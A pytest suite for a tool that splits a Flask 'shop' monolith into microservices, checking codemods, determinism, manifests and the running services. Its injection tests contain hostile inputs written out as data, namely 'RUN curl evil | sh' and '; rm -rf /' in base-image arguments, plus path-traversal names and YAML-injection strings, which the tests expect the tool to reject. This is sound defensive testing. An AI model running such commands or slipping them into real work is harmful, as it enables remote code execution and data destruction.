"""``decompose generate`` on sample_monolith: codemods, determinism, safety, and the
generated services running as real processes."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import py_compile
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import yaml
from typer.testing import CliRunner

from decompose.cli import app
from decompose.frameworks import PruneError
from decompose.frameworks.base import prune_imports as prune_app_module
from decompose.generation.codemods import CodemodError, rewrite_remote_imports
from decompose.generation.generate import GenerateError, build_generation, client_function
from decompose.generation.output import _q, generation_for, render_outputs, write_outputs
from decompose.planning.plan import Plan, PlanError, Service

from tests.generate_support import SAMPLE, Running, reference_plan, write_reference_plan


@pytest.fixture(scope="session")
def plan_file(tmp_path_factory) -> Path:
    return write_reference_plan(tmp_path_factory.mktemp("plan") / "decompose.yaml")


@pytest.fixture(scope="session")
def generated(plan_file):
    gen, root, facts, sources = generation_for(plan_file)
    return gen, root, facts, sources, render_outputs(gen, facts, sources, root=root)


@pytest.fixture(scope="session")
def out_dir(generated, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("generated") / "out"
    write_outputs(out, generated[4].files)
    return out


def _functions(source: str) -> dict[str, ast.FunctionDef]:
    """The module's functions (a client's module ``__getattr__`` for its re-exports aside)."""
    return {n.name: n for n in ast.parse(source).body
            if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef)) and n.name != "__getattr__"}


# --------------------------------------------------------------------------- the model


def test_services_layout_and_data_decision(generated):
    gen = generated[0]
    assert sorted(gen.services) == ["catalog", "customers", "inventory", "notifications", "orders", "payments", "shipping"]
    assert gen.database_env == "SHOP_DATABASE_URL"
    assert gen.app_factory == "shop.app:create_app"
    # orders and notifications query the Customer model: customers.models is borrowed and
    # the customers tables live in the shared database of every service touching them.
    assert "shop.customers.models" in gen.services["orders"].borrowed
    assert {"customers", "addresses"} <= set(gen.shared_tables)
    assert gen.services["orders"].database == gen.services["customers"].database == "shared"
    assert gen.services["catalog"].database == "own"
    assert "catalog" in gen.services["inventory"].calls and "inventory" in gen.services["catalog"].called_by
    exports = {e.name for e in gen.services["catalog"].exports}
    assert {"shop.catalog.service.product_exists", "shop.catalog.service.PRICE_CACHE"} <= exports
    # circular calls are allowed: orders <-> payments
    assert "payments" in gen.services["orders"].calls and "orders" in gen.services["payments"].calls


def test_codemod_rewrites_cross_service_call_into_client_with_same_signature(out_dir):
    svc = (out_dir / "services/inventory/app/shop/inventory/service.py").read_text()
    assert "from decompose_rt.clients import shop_catalog_service as catalog_service" in svc
    assert "from shop.catalog import service" not in svc
    assert "catalog_service.product_exists(product_id)" in svc  # the call now goes through the client
    client = (out_dir / "services/inventory/app/decompose_rt/clients/shop_catalog_service.py").read_text()
    original = _functions((SAMPLE / "shop/catalog/service.py").read_text())
    stubs = _functions(client)
    assert "product_exists" in stubs and "get_product" in stubs
    for name, stub in stubs.items():
        assert ast.dump(stub.args) == ast.dump(original[name].args), name
        assert ast.dump(stub.returns) == ast.dump(original[name].returns), name
    assert "_rpc.call(_SERVICE, 'shop.catalog.service.product_exists'" in client
    assert "PRICE_CACHE = _rpc.RemoteObject(_SERVICE, 'shop.catalog.service.PRICE_CACHE')" in client


def test_every_client_function_keeps_the_original_signature(generated):
    gen, _root, _facts, sources, outputs = generated
    checked = 0
    for spec in gen.services.values():
        for cm in spec.clients.values():
            stubs = _functions(outputs.files[f"services/{spec.name}/app/{cm.path}"].decode())
            original = _functions(sources[cm.module])
            for name, stub in stubs.items():
                a, b = stub.args, original[name].args
                assert [x.arg for x in a.args] == [x.arg for x in b.args]
                assert [x.arg for x in a.kwonlyargs] == [x.arg for x in b.kwonlyargs]
                assert ast.dump(stub.returns) == ast.dump(original[name].returns)
                checked += 1
    assert checked >= 15


def test_rewrite_forms():
    remote = {"shop.catalog.service": "decompose_rt.clients.shop_catalog_service"}
    src = (
        "import importlib\n"
        "import shop.catalog.service\n"
        "import shop.catalog.service as cs\n"
        "from shop.catalog.service import get_product, PRICE_CACHE as cache\n"
        "from . import service\n"
        "from typing import TYPE_CHECKING\n"
        "if TYPE_CHECKING:\n"
        "    from shop.catalog.service import ProductInfo\n"
        "def f():\n"
        "    from shop.catalog import service as s\n"
        "    return shop.catalog.service.get_product(1), importlib.import_module('shop.catalog.service')\n"
    )
    new, changes = rewrite_remote_imports(src, "shop.catalog.search", False, remote)
    compile(new, "x", "exec")
    assert "import shop.catalog.service\n" not in new
    assert "import decompose_rt.clients.shop_catalog_service as cs" in new
    assert "from decompose_rt.clients.shop_catalog_service import get_product" in new
    assert "from decompose_rt.clients.shop_catalog_service import PRICE_CACHE as cache" in new
    assert "from decompose_rt.clients import shop_catalog_service as service" in new
    assert "    from shop.catalog.service import ProductInfo" in new  # TYPE_CHECKING: untouched
    assert "from decompose_rt.clients import shop_catalog_service as s" in new
    assert "_decompose_shop_catalog_service.get_product(1)" in new
    assert "import_module('decompose_rt.clients.shop_catalog_service')" in new
    assert len(changes) == 6


def test_client_function_signature_kinds():
    from decompose.analysis.facts import Definition, Param

    d = Definition(name="f", kind="function", line=1, end_line=2, returns="int", params=[
        Param("a", kind="positional_only"), Param("b", "int", "2"), Param("args", kind="var_positional"),
        Param("c", default="SOME_CONSTANT", kind="keyword_only"), Param("kw", kind="var_keyword"),
    ])
    cf = client_function(d)
    assert cf.params == "a, /, b: int = 2, *args, c=_rpc.DEFAULT, **kw"
    assert cf.args == "(a, b, *args)"
    assert cf.kwargs == "{'c': c, **kw}"


def test_prune_app_module_refuses_unprunable_reference():
    src = "from shop.orders.api import bp\nx = [bp]\nregistry = {'o': bp}\nname = describe(bp)\nprint(f'{name}')\n\ndef f():\n    return bp.name\n"
    assert "x = []" in prune_app_module(src.split("\nname")[0] + "\n", "shop.app", False, {"shop.orders.api"})
    with pytest.raises(PruneError, match=r"still uses bp \(line 8\)"):
        prune_app_module(src, "shop.app", False, {"shop.orders.api"})
    ok = prune_app_module("from shop.orders.api import bp\nfrom shop.catalog.api import bp as c\nB = (bp, c)\napp.register_blueprint(bp)\n",
                          "shop.app", False, {"shop.orders.api"})
    assert ok == "from shop.catalog.api import bp as c\nB = (c,)\n"


def test_app_module_pruned_per_service(out_dir):
    app_py = (out_dir / "services/catalog/app/shop/app.py").read_text()
    assert "BLUEPRINTS = (catalog_bp,)" in app_py
    assert "orders" not in app_py
    assert not (out_dir / "services/catalog/app/shop/orders").exists()


def test_requirements_pinned_to_monolith(out_dir):
    reqs = (out_dir / "services/catalog/requirements.txt").read_text().splitlines()
    assert "flask==3.1.3" in reqs and "sqlalchemy==2.1.9" in reqs and "httpx==0.28.1" in reqs
    assert "werkzeug==3.1.8" in (out_dir / "services/catalog/constraints.txt").read_text()


# --------------------------------------------------------------------------- output contract


def test_output_manifest_contract(out_dir):
    m = json.loads((out_dir / "decompose-output.json").read_text())
    assert m["project"] == "shop" and m["version"] == "1.4.0"
    names = [s["name"] for s in m["services"]]
    assert names == sorted(names)
    cat = next(s for s in m["services"] if s["name"] == "catalog")
    assert cat["image"] == "shop/catalog:1.4.0" and cat["context"] == "services/catalog"
    assert cat["port"] == 8000 and cat["health"] == "/healthz" and cat["readiness"] == "/readyz"
    # PostgreSQL by default (the sample uses SQLAlchemy): the URL is a secret file, never an env value
    assert cat["env"]["SHOP_DATABASE_URL_FILE"] == "/run/secrets/db-catalog-url" and "SHOP_DATABASE_URL" not in cat["env"]
    assert cat["database_server"] == {"name": "postgres", "port": 5432, "database": "catalog",
                                      "secret": "db-catalog-url", "file": "/run/secrets/db-catalog-url"}
    assert "/api/catalog" in cat["route_prefixes"]
    inv = next(s for s in m["services"] if s["name"] == "inventory")
    assert inv["env"]["DECOMPOSE_CATALOG_URL"] == "http://catalog:8000" and inv["calls"] == ["catalog"]
    assert m["gateway"]["name"] == "gateway" and m["gateway"]["default_service"]
    assert m["database"]["shared"]["services"] == ["customers", "notifications", "orders", "payments"]
    for u in m["services"] + [m["gateway"]]:
        assert (out_dir / u["context"] / "Dockerfile").is_file()
        assert (out_dir / u["source"]).is_dir()


def test_output_is_deterministic(plan_file, generated, tmp_path):
    gen, root, facts, sources = generation_for(plan_file, use_cache=False)
    again = render_outputs(gen, facts, sources, root=root)
    assert again.files == generated[4].files
    # and through the CLI, byte for byte on disk, twice
    digests = []
    for _ in range(2):
        r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(tmp_path / "o"), "--force",
                                     "--format", "json"])
        assert r.exit_code == 0, r.output
        digests.append({p.relative_to(tmp_path).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
                        for p in sorted((tmp_path / "o").rglob("*")) if p.is_file()})
    assert digests[0] == digests[1]
    assert len(digests[0]) == len(generated[4].files) + 1  # + the .decompose-generated record


def test_existing_files_are_not_overwritten_without_force(plan_file, tmp_path):
    out = tmp_path / "o"
    r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(out)])
    assert r.exit_code == 0, r.output
    compose = out / "compose.yaml"
    compose.write_text("mine\n")
    (out / "MIGRATION.md").unlink()
    r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(out)])
    assert r.exit_code == 2 and "--force" in r.output
    assert compose.read_text() == "mine\n"
    assert not (out / "MIGRATION.md").exists()  # checked everything before writing anything
    r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(out), "--force"])
    assert r.exit_code == 0 and compose.read_text() != "mine\n" and (out / "MIGRATION.md").exists()


def test_force_regeneration_removes_what_the_old_plan_generated_and_keeps_user_files(tmp_path):
    from decompose.planning.planfile import save_plan

    plan = reference_plan()
    save_plan(plan, tmp_path / "a.yaml")
    out = tmp_path / "o"
    assert CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "a.yaml"), "-o", str(out)]).exit_code == 0
    (out / "NOTES.md").write_text("mine\n")
    assert (out / "services" / "shipping" / "Dockerfile").is_file()
    renamed = plan.services.pop("shipping")
    renamed.name = "logistics"
    plan.services["logistics"] = renamed
    save_plan(plan, tmp_path / "b.yaml")
    r = CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "b.yaml"), "-o", str(out), "--force"])
    assert r.exit_code == 0, r.output
    assert not (out / "services" / "shipping").exists() and not (out / "k8s" / "base" / "shipping").exists()
    assert (out / "services" / "logistics" / "Dockerfile").is_file()
    assert (out / "NOTES.md").read_text() == "mine\n"
    fresh = tmp_path / "fresh"
    assert CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "b.yaml"), "-o", str(fresh)]).exit_code == 0
    listing = lambda d: sorted(str(p.relative_to(d)) for p in d.rglob("*") if p.is_file() and p.name != "NOTES.md")  # noqa: E731
    assert listing(out) == listing(fresh)


# --------------------------------------------------------------------------- validation / injection


def test_service_names_are_validated(tmp_path):
    bad = {"project": "shop", "source": str(SAMPLE), "services": {"../etc": {"modules": ["shop.catalog"]}}}
    with pytest.raises(PlanError):
        Plan.from_dict(bad)
    plan = reference_plan()
    for name in ("../evil", "Evil", "a/b", "gateway", "x" * 64):
        broken = Plan(project="shop", services={**plan.services, name: Service(name=name, modules=["shop.wsgi"])},
                      shared=[m for m in plan.shared if m != "shop.wsgi"], source=str(SAMPLE))
        with pytest.raises(GenerateError):
            build_generation(broken, [], {})
    (tmp_path / "decompose.yaml").write_text(yaml.safe_dump(bad))
    r = CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "decompose.yaml"), "--output", str(tmp_path / "o")])
    assert r.exit_code == 2 and not (tmp_path / "o").exists()


def test_edited_plan_splitting_a_live_object_call_is_refused(tmp_path):
    """search_products() hands ORM rows to product_to_dict(): that call cannot become HTTP."""
    from decompose.planning.planfile import save_plan

    plan = reference_plan()
    plan.services["catalog"].modules.remove("shop.catalog.search")
    plan.services["inventory"].modules.append("shop.catalog.search")
    save_plan(plan, tmp_path / "decompose.yaml")
    r = CliRunner().invoke(app, ["generate", "--plan", str(tmp_path / "decompose.yaml"), "--output", str(tmp_path / "o")])
    assert r.exit_code == 2
    assert "shop.catalog.search (service inventory) and shop.catalog.service (service catalog) must be in one service" in r.output
    assert "product_to_dict" in r.output and "ORM model shop.catalog.models.Product" in r.output
    assert not (tmp_path / "o").exists()  # rejected before anything is written


def test_base_image_cannot_inject_dockerfile_lines(plan_file, tmp_path):
    for image in ("python:3.11-slim\nRUN curl evil | sh", "python:3.11 AS x", "", "python:latest; rm -rf /"):
        r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(tmp_path / "o"),
                                     "--base-image", image])
        assert r.exit_code == 2, image
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("value", ['a": b', "x\n  evil: true", "- item", "{a: 1}", "'", "#c", "é\u2028", "null", "true", "1e3", "*x"])
def test_yaml_quote_filter_round_trips(value):
    doc = yaml.safe_load(f"key: {_q(value)}\n")
    assert doc == {"key": value}


def test_route_paths_from_source_cannot_inject_yaml(tmp_path):
    pkg = tmp_path / "mono" / "evil"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("")
    (pkg / "api.py").write_text(
        "from flask import Blueprint\n"
        "bp = Blueprint('e', __name__, url_prefix='/x\"\\n  injected: true')\n"
        "@bp.get('/a')\n"
        "def a():\n    return 'a'\n"
    )
    (pkg / "app.py").write_text(
        "from flask import Flask\nfrom evil.api import bp\n"
        "def create_app():\n    app = Flask('e')\n    app.register_blueprint(bp)\n    return app\n"
    )
    plan = tmp_path / "decompose.yaml"
    plan.write_text(yaml.safe_dump({"project": "evil", "source": str(tmp_path / "mono"),
                                    "services": {"api": {"modules": ["evil.api"]}},
                                    "shared": {"modules": ["evil", "evil.app"]}}))
    out = tmp_path / "o"
    r = CliRunner().invoke(app, ["generate", "--plan", str(plan), "--output", str(out)])
    assert r.exit_code == 0, r.output
    ingress = yaml.safe_load((out / "k8s/base/ingress.yaml").read_text())
    paths = [p["path"] for p in ingress["spec"]["rules"][0]["http"]["paths"]]
    assert paths == ['/x"\n  injected: true']  # the hostile prefix stays one string value

    def keys(node):
        if isinstance(node, dict):
            for k, v in node.items():
                yield k
                yield from keys(v)
        elif isinstance(node, list):
            for v in node:
                yield from keys(v)

    for f in out.rglob("*.yaml"):
        for doc in yaml.safe_load_all(f.read_text()):
            assert "injected" not in set(keys(doc)), f
    routes = json.loads((out / "decompose-output.json").read_text())["services"][0]["routes"]
    assert routes == [{"methods": ["GET"], "path": '/x"\n  injected: true/a'}]


def test_user_templates_override(plan_file, tmp_path):
    tpl = tmp_path / "tpl" / "project"
    tpl.mkdir(parents=True)
    (tpl / "MIGRATION.md.j2").write_text("custom guide for {{ project }}\n")
    r = CliRunner().invoke(app, ["generate", "--plan", str(plan_file), "--output", str(tmp_path / "o"),
                                 "--templates", str(tmp_path / "tpl")])
    assert r.exit_code == 0, r.output
    assert (tmp_path / "o/MIGRATION.md").read_text() == "custom guide for shop\n"
    assert (tmp_path / "o/compose.yaml").read_text().startswith("# Local run of shop")


def test_migration_guide_orders_least_coupled_first(out_dir, generated):
    text = (out_dir / "MIGRATION.md").read_text()
    rows = [line.split("|") for line in text.splitlines() if line.startswith("| ") and line[2:3].isdigit()]
    scores = [int(r[3]) for r in rows]
    assert len(rows) == 7 and scores == sorted(scores)
    assert rows[-1][2].strip() == "orders"  # the orchestrator is the most coupled


# --------------------------------------------------------------------------- the generated code runs


def test_generated_python_compiles_and_every_service_imports(out_dir, tmp_path):
    py_files = sorted(out_dir.rglob("*.py"))
    assert len(py_files) > 100
    for f in py_files:
        py_compile.compile(str(f), cfile=str(tmp_path / "x.pyc"), doraise=True)
    m = json.loads((out_dir / "decompose-output.json").read_text())
    for u in m["services"] + [m["gateway"]]:
        module = "decompose_rt.server" if u["role"] == "service" else "decompose_gateway.app"
        env = {k: v for k, v in os.environ.items() if not k.startswith(("DECOMPOSE_", "SHOP_"))}
        env.update(PYTHONPATH=str(out_dir / u["source"]), SHOP_DATABASE_URL=f"sqlite:///{tmp_path}/{u['name']}.db")
        r = subprocess.run([sys.executable, "-c", f"import {module}; print({module}.app)"], cwd=out_dir / u["source"],
                           env=env, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, f"{u['name']}: {r.stderr[-2000:]}"


@pytest.fixture(scope="module")
def running(out_dir, tmp_path_factory):
    run = Running(out_dir, tmp_path_factory.mktemp("run")).start()
    yield run
    run.stop()


def test_services_start_as_processes_and_answer_healthz(running):
    for u in running.units:
        r = httpx.get(running.url(u["name"]) + "/healthz", timeout=5)
        assert r.status_code == 200 and r.json()["status"] == "ok", u["name"]
        assert httpx.get(running.url(u["name"]) + "/readyz", timeout=5).status_code == 200


def test_services_serve_exactly_the_routes_the_manifest_lists(running):
    for u in running.manifest["services"]:
        served = httpx.get(running.url(u["name"]) + "/_decompose/routes", timeout=5,
                           auth=running.auth).json()["routes"]
        assert [(r["path"], r["methods"]) for r in served if r["path"] != "/health"] == \
               [(r["path"], r["methods"]) for r in u["routes"] if r["path"] != "/health"], u["name"]


def test_rpc_interface_is_exactly_the_exports(running):
    r = httpx.post(running.url("catalog") + "/_rpc/shop.catalog.service._load_product", json={"args": [1]}, timeout=5,
                   auth=running.auth)
    assert r.status_code == 404
    r = httpx.post(running.url("catalog") + "/_rpc/shop.catalog.service.product_exists",
                   json={"args": [], "kwargs": {"product_id": 10**9}}, timeout=5, auth=running.auth)
    assert r.status_code == 200 and r.json() == {"result": False}


def test_cross_service_call_through_the_gateway(running):
    gw = httpx.Client(base_url=running.url("gateway"), timeout=30)
    product = gw.post("/api/catalog/products", json={"sku": "GEN-T1", "name": "Gen widget", "price_cents": 1234})
    assert product.status_code == 201, product.text
    pid = product.json()["id"]
    # inventory asks catalog (over HTTP) whether the product exists, then stores stock in its own database
    r = gw.post(f"/api/inventory/stock/{pid}/adjust", json={"delta": 5, "reason": "restock"})
    assert r.status_code == 200 and r.json()["on_hand"] == 5, r.text
    # an exception raised in catalog (NotFound) is re-raised in inventory and becomes the monolith's 404
    r = gw.post("/api/inventory/stock/999999999/adjust", json={"delta": 5, "reason": "restock"})
    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"
    # inventory reads catalog's PRICE_CACHE remotely
    r = gw.get("/api/inventory/valuation", params={"product_id": pid})
    assert r.status_code == 200 and r.json()["total_value_cents"] == 5 * 1234
    assert "POST /_rpc/shop.catalog.service.product_exists" in running.log("catalog")
    # unknown routes get the monolith's JSON 404 through the default service
    assert gw.get("/api/nope").json()["error"]["code"] == "not_found"


@pytest.mark.slow
def test_monolith_test_suite_passes_against_the_split_system(running):
    env = {k: v for k, v in os.environ.items() if not k.startswith("DECOMPOSE_")}
    env["SHOP_BASE_URL"] = running.url("gateway")
    r = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"], cwd=SAMPLE, env=env,
                       capture_output=True, text=True, timeout=600)
    assert r.returncode == 0, r.stdout[-4000:]
    assert " passed" in r.stdout
